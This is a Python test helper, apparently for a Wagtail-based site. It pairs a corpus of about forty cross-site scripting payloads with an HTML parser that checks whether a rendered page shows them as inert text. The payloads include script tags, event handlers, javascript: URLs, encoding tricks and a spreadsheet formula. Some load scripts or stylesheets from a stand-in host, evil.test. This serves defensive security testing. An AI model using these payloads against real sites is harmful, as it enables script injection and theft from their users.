"""An XSS corpus and a checker that proves a page rendered it inert."""

from html.parser import HTMLParser

MARK = "xq"  # every payload carries "xq<n>", so where it lands can be found

_RAW = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.test/{m}.js></SCRIPT>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(\'{m}\')" />',
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg/onload=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "<a href=\"&#106;avascript:alert('{m}')\">{m}</a>",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' autofocus onfocus='alert(\"{m}\")' x='",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{m}</object>',
    "<embed src=\"javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
    "<input autofocus onfocus=alert('{m}')>",
    "<marquee onstart=alert('{m}')>{m}</marquee>",
    '<base href="https://evil.test/{m}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<link rel=stylesheet href=https://evil.test/{m}.css>",
    "<style>@import 'https://evil.test/{m}.css';</style>",
    'https://example.org/{m}"onmouseover="alert(1)',
    "https://example.org/?q=<script>{m}</script>",
    "{{{{ {m} }}}} {{% debug %}} ${{{m}}}",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<!--<script>alert('{m}')</script>-->",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    '=HYPERLINK("https://evil.test/{m}","click")',
]

PAYLOADS = [raw.replace("{m}", f"{MARK}{n}") for n, raw in enumerate(_RAW)]
assert len(PAYLOADS) >= 30

# The same corpus as display names (at most 80 characters), with markers of their own
# ("xqname<n>"), so a person's name on a page is told apart from the text they wrote.
NAMES = [raw.replace("{m}", f"{MARK}name{n}")[:80] for n, raw in enumerate(_RAW)]
assert len(set(NAMES)) == len(NAMES)


def short(payload: str, limit: int) -> str:
    return payload[:limit]


# Attributes in which escaped resident text may legitimately appear.
SAFE_ATTRIBUTES = {"value", "title", "alt", "aria-label", "placeholder", "content", "data-label"}
JSON_TYPES = {"application/json", "application/ld+json"}
DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta"}


class InertChecker(HTMLParser):
    """Collects every place a marker ended up outside plain text."""

    def __init__(self, strict=True):
        super().__init__(convert_charrefs=True)
        self.strict = strict  # False for the Wagtail admin, which has handlers of its own
        self.problems = []
        self.stack = []

    def handle_starttag(self, tag, attrs):
        self._check_tag(tag, attrs)
        if tag == "script" and dict(attrs).get("type") in JSON_TYPES:
            self.stack.append("script-json")  # data, never run: json_script escapes "<"
        elif tag not in {"br", "img", "input", "meta", "link", "hr", "base", "embed"}:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._check_tag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script" and self.stack and self.stack[-1] == "script-json":
            self.stack.pop()
        elif tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def _check_tag(self, tag, attrs):
        # A CSP nonce is random base64 from the server, never input: it may contain "xq".
        attrs = [(name, value or "") for name, value in attrs if name != "nonce"]
        if MARK in tag:
            self.problems.append(f"tag <{tag}>")
        rel = dict(attrs).get("rel", "")
        for name, value in attrs:
            lowered = value.strip().lower()
            if name.startswith("on") and (self.strict or MARK in value):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if MARK in name:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in {"href", "src", "action", "formaction", "data", "xlink:href"} and (
                lowered.startswith(("javascript:", "vbscript:", "data:text/html"))
            ):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if MARK not in value:
                continue
            if name in SAFE_ATTRIBUTES:
                continue
            if (
                name in {"href", "action"}
                and lowered.startswith(("?", "#", "/"))
                and not (lowered.startswith("//"))
            ):
                continue  # a link within the site carrying an (encoded) query
            if (
                name == "href"
                and tag == "a"
                and lowered.startswith(("http://", "https://", "mailto:"))
                and set(rel.split()) >= {"nofollow", "ugc", "noopener"}
            ):
                continue  # an auto-linked URL from resident text
            self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag in DANGEROUS_TAGS and any(MARK in value for _, value in attrs):
            self.problems.append(f"<{tag}> carrying a payload")

    def handle_data(self, data):
        if MARK in data and self.stack and self.stack[-1] == "script-json" and "<" in data:
            self.problems.append("unescaped '<' with a payload inside a JSON script")
        if MARK in data and self.stack and self.stack[-1] in {"script", "style"}:
            self.problems.append(f"payload inside <{self.stack[-1]}>")

    def handle_comment(self, data):
        if MARK in data:
            self.problems.append("payload inside an HTML comment")


def assert_inert(html: str, where: str, strict: bool = True):
    checker = InertChecker(strict=strict)
    checker.feed(html)
    checker.close()
    assert checker.problems == [], f"{where}: {checker.problems[:5]}"


def marker_of(payload: str) -> str:
    import re

    return re.search(MARK + r"\d+", payload).group(0)


def assert_shown(html: str, payload: str, where: str):
    """The payload's marker reached the page (so the inertness check was not vacuous)."""
    import re

    marker = marker_of(payload)
    assert re.search(marker + r"(?!\d)", html), f"{where}: {marker} not shown"


class _TextRuns(HTMLParser):
    """The runs of text a reader sees, entities decoded (not script or style source)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.runs = []
        self.raw_text = None

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style"}:
            self.raw_text = tag

    def handle_endtag(self, tag):
        if tag == self.raw_text:
            self.raw_text = None

    def handle_data(self, data):
        if self.raw_text is None:
            self.runs.append(data)


def shown_as_text(html: str, text: str) -> bool:
    """Whether ``text`` is on the page as text, character for character."""
    parser = _TextRuns()
    parser.feed(html)
    parser.close()
    return any(text in run for run in parser.runs)


def assert_name_escaped(html: str, name: str, where: str):
    """The display name ``name`` is shown, escaped: a reader sees exactly the characters
    the person typed, so none of them was taken as markup (and it appears nowhere
    unescaped: ``assert_no_raw_name``)."""
    assert shown_as_text(html, name), f"{where}: display name {name!r} not shown as text"
    assert_no_raw_name(html, name, where)


def assert_no_raw_name(html: str, name: str, where: str):
    """Nowhere in the page's source does ``name`` appear unescaped. (JSON in a script
    escapes ``<``, ``>``, ``&`` and ``"`` too, but not ``'``: a name whose only special
    character is ``'`` cannot be told apart there, so it is not looked for.)"""
    if any(char in name for char in '<>&"'):
        assert name not in html, f"{where}: display name {name!r} appears unescaped"
